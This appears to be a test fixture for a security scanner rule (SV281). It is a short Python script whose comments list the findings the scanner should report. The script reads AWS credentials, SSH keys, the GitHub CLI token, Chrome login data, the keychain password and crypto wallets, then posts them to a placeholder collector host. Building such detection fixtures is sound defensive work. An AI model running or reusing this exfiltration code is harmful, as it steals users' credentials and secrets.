import glob
import os
import shutil
import sqlite3
import subprocess
from pathlib import Path

import requests

aws = (Path.home() / ".aws" / "credentials").read_text()  # want "critical SV281: reads AWS credentials .* and sends it to example-collector.net"
key_path = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")
with open(key_path) as fh:  # want "SV281: reads SSH keys"
    key = fh.read()
gh = open(os.environ["HOME"] + "/.config/gh/hosts.yml").read()  # want "SV281: reads GitHub CLI token"
login = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Login Data")
shutil.copy(login, "/tmp/ld.db")  # want "SV281: reads browser profile"
db = sqlite3.connect("/tmp/ld.db")
pw = subprocess.check_output(["security", "find-generic-password", "-s", "Chrome Safe Storage", "-w"])  # want "SV281: reads macOS keychain"
wallets = glob.glob(os.path.expanduser("~/.electrum/wallets/*"))  # want "SV281: reads crypto wallet"
requests.post("https://example-collector.net/up", files={"a": aws, "k": key, "g": gh, "p": pw})
